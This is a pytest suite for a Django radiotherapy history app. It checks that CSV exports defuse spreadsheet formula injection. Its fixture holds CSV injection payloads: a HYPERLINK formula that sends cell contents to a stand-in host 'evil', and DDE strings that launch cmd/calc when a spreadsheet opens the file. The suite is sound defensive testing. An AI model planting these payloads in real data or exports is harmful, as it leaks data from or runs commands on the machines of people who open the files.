"""CSV exports defuse formula cells (issue 12, OWASP CSV injection): a text cell starting
with =, +, -, @, tab or CR gets a leading apostrophe. PostgreSQL writes the CSV in SQL (COPY),
SQLite in Python: the suite runs on both (CI on PostgreSQL)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client
from rest_framework.test import APIClient

from rv.history import COLUMNS, history_csv, history_deliveries
from rv.models import Beam, Patient, TreatmentMachine
from rv.roles import ADMIN
from tests.rv.conftest import PASSWORD, make_user

pytestmark = pytest.mark.django_db

HOSTILE = {
    "patient_name": '=HYPERLINK("http://evil/?"&A1,"x")',
    "patient_id": "\tcmd|' /C calc'!A0",
    "machine": "@SUM(1+1)*cmd|' /C calc'!A0",
    "beam_name": "-2+3+cmd|' /C calc'!A0",
    "plan_label": "+1+1",
}
COURSE_PREFIX = "\r="  # course codes are unique per patient: a prefix each


@pytest.fixture
def hostile_clinic() -> None:
    call_command("seed_clinic", patients=1, machines=1, years=1, seed=3, verbosity=0)
    Patient.objects.update(patient_name=HOSTILE["patient_name"],
                           patient_id=HOSTILE["patient_id"])
    TreatmentMachine.objects.update(name=HOSTILE["machine"])
    Beam.objects.update(name=HOSTILE["beam_name"])
    from django.db.models import F, Value
    from django.db.models.functions import Concat

    from rv.models import Course, Plan

    Plan.objects.update(label=HOSTILE["plan_label"])
    Course.objects.update(code=Concat(Value(COURSE_PREFIX), F("code")))


def _table(chunks) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = "".join(c.decode() if isinstance(c, bytes) else c for c in chunks)
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_defused(table: list[list[str]]) -> None:
    assert table[0] == list(COLUMNS) and len(table) > 1
    index = {name: i for i, name in enumerate(COLUMNS)}
    for row in table[1:]:
        for column, value in HOSTILE.items():
            assert row[index[column]] == "'" + value, (connection.vendor, column)
        assert row[index["course_code"]].startswith("'" + COURSE_PREFIX)
        assert not row[index["treated_at"]].startswith("'")
        float(row[index["delivered_meterset"]] or 0)  # numbers stay numbers


def test_history_csv_defuses_formulas_on_this_vendor(hostile_clinic) -> None:  # type: ignore[no-untyped-def]
    _assert_defused(_table(history_csv(qs=history_deliveries())))


def test_history_csv_endpoints_defuse_formulas(hostile_clinic) -> None:  # type: ignore[no-untyped-def]
    api = APIClient()
    api.force_authenticate(make_user("csv_admin", ADMIN))
    got = api.get("/api/v1/history/csv/")
    assert got.status_code == 200
    _assert_defused(_table(got.streaming_content))
    web = Client()
    web.login(username="csv_admin", password=PASSWORD)
    page = web.get("/history/csv/")
    assert page.status_code == 200
    _assert_defused(_table(page.streaming_content))  # type: ignore[attr-defined]


def test_plain_text_is_untouched() -> None:
    from rv.history import csv_cell

    assert csv_cell("Smith^John") == "Smith^John"
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None
    assert csv_cell("=1") == "'=1" and csv_cell("\r") == "'\r"
